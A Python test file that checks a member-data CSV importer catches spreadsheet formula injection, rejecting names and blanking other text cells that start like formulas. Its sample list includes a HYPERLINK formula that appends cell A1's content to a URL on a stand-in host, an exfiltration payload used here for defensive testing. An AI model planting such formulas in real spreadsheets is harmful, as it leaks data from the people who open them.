"""The importer flags text cells that a spreadsheet would run as a formula (issue 10, finding 12,
import side): a name is refused, another text cell is left empty, each with a clear reason."""

import pytest

from chibo.data_quality.importing import actions
from chibo.data_quality.importing.rows import UnitRef, UnitTable, prepare_row, starts_like_formula
from chibo.data_quality.models import ImportRow, RowOutcome
from chibo.members.models import Member

from .import_support import HEADERS, csv_bytes, person

INJECTIONS = ['=HYPERLINK("http://x.example/?d="&A1,"Bấm vào đây")', "+1", "-2+3", "@SUM(A1)"]
INJECTIONS += ["\tLê Thị Lan", "\rLê Thị Lan", " =1+1"]


def _units() -> UnitTable:
    table = UnitTable(root=UnitRef(1, "B1", "Chi bộ 1", True))
    table.add(table.root)
    return table


def _prepared(**values):
    row = person("HS1", "Lê Thị Lan", **values)
    cells = [row[key] for key in row]
    return prepare_row(1, cells, {key: i for i, key in enumerate(row)}, _units())


@pytest.mark.parametrize("name", INJECTIONS)
def test_a_name_that_starts_like_a_formula_is_refused(name):
    row = _prepared(full_name=name)
    assert row.rejected
    codes = [i["code"] for i in row.issues if i["field"] == "full_name"]
    assert codes == ["name.formula"]
    message = next(i["message"] for i in row.issues if i["code"] == "name.formula")
    assert "công thức" in message
    assert row.raw[1] == name  # kept as it was for the rejected-rows workbook


@pytest.mark.parametrize("field", ["occupation", "home_town", "permanent_address", "email"])
def test_another_text_cell_that_starts_like_a_formula_is_left_empty(field):
    row = _prepared(**{field: '=HYPERLINK("http://x")'})
    assert not row.rejected
    assert [i["code"] for i in row.issues if i["field"] == field] == ["text.formula"]
    assert not row.fields.get(field)


def test_ordinary_values_are_not_formulas():
    for value in ["Lê Thị Lan", "-", "—", "", "Giáo viên", "12/12"]:
        assert not starts_like_formula(value)
    assert not _prepared(occupation="-", phone="+84912345678").issues


def test_import_keeps_the_formula_name_out_of_the_members(personas):
    import io

    data = csv_bytes([person("HS1", '=HYPERLINK("http://x","bấm")'), person("HS2", "Lê Thị Lan")])
    assert HEADERS[1] == "Họ và tên"
    stream = io.BytesIO(data)
    batch = actions.upload_import(
        actor=personas.hq_admin,
        unit=personas.tree.g1,
        file_name="ds.csv",
        stream=stream,
        size=len(data),
        store=False,
    )
    actions.run_import(actor=personas.hq_admin, batch=batch, stream=stream)
    assert list(Member.objects.filter(full_name__contains="HYPERLINK")) == []
    rejected = ImportRow.objects.get(batch=batch, outcome=RowOutcome.REJECTED)
    assert rejected.issues[0]["code"] == "name.formula"
